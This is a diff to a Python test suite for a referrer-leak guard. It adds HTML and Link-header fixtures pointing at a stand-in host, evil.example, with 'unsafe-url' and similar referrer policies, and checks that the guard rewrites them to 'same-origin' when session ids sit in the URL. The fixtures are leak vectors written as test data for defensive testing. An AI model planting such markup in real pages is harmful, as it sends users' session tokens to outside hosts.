@@ -451,6 +451,9 @@ TELLING = [
     "<META CONTENT = unsafe-url NAME=referrer>",
     '<meta name="referrer" content="no-referrer, unsafe-url">',
     '<iframe src="https://maps.example/" referrerpolicy="no-referrer-when-downgrade"></iframe>',
+    '<style>b{background:url("//evil.example/" referrer-policy(unsafe-url))}</style>',
+    '<p style="background:url(//evil.example/ Referrer-Policy( unsafe-url))">',
+    '<iframe srcdoc="<img src=//evil.example/ referrerpolicy=&quot;unsafe-url&quot;>"></iframe>',
 ]
 
 
@@ -903,3 +906,30 @@ def test_a_guard_that_raises_raises_for_reports_too():
         reported(REPORTING["report-uri"], leak_guard="raise")
     _, answer = reported(REPORTING["report-uri"], leak_guard="off")
     assert "collector" not in str(answer.headers)
+
+
+# -- other policies
+
+
+@pytest.mark.parametrize("how", ["read", "nothing"])
+@pytest.mark.parametrize("carrier", ["query:sid", "path:~", "param:sid"])
+@pytest.mark.parametrize(
+    "said",
+    [
+        *("unsafe-url", '"unsafe-url"', '"UNSAFE\\-URL"', " no-referrer-when-downgrade"),
+        *('"a, unsafe-url"', "always"),
+    ],
+)
+def test_a_link_in_the_head_has_nobody_told_the_address(said, carrier, how):
+    link = "<//evil.example/x>; rel=preload; as=image; ReferrerPolicy={}, </y>; rel=next".format
+    _, answer = reported([("Link", link(said))], how, carrier)
+    assert answer.header("Link") in (link("same-origin"), link(" same-origin"))
+
+
+@pytest.mark.parametrize("said", ["no-referrer", '"origin"', "strict-origin-when-cross-origin"])
+def test_a_link_whose_policy_tells_no_more_than_ours_stays(said):
+    links = [("Link", f"<//evil.example/x>; rel=preload; referrerpolicy={said}; as=image")]
+    _, answer = reported(links)
+    assert set(links) <= set(answer.headers)
+    links = [("Link", "<//evil.example/x>; rel=preload; referrerpolicy=unsafe-url")]
+    assert set(links) <= set(Site("query:sid").get("/", headers=links).headers)
